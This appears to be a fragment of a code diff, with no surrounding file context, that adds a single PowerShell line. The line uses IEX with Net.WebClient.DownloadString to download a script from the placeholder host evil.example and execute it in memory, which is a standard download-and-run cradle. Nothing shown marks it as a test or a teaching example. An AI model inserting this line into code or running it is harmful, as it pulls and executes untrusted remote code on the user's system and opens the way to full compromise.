@@ -1,0 +1,2 @@
+
+IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')
